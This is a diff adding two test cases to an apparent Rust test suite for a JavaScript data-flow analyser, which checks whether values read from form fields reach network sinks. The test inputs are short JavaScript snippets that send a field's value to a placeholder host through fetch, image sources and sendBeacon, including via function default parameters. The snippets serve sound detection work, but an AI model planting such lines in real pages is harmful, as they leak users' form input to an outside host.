@@ -82,6 +82,16 @@ mod tests {
             ("straight", "fetch('//c.example/'+a.value)", "Field+Address>Request"),
             ("by a variable", "var v=a.value;v='x'+v;new Image().src=v", "Field+ImageElement>Fetched"),
             ("before it is assigned", "function s(){b.src=v}v=a.value", "Field>Fetched"),
+            (
+                "in a default",
+                "(function(a=(()=>{fetch('//c.example/'+q.value)})()){})()",
+                "Field+Address>Request",
+            ),
+            (
+                "after a default",
+                "(function(a=()=>1,b){new Image().src=b})(0,q.value)",
+                "Field+ImageElement>Fetched",
+            ),
             ("by a property", "this.q={};this.q.k=a.value;navigator.sendBeacon(u,this.q)", "Field>Beacon"),
             (
                 "by an argument",
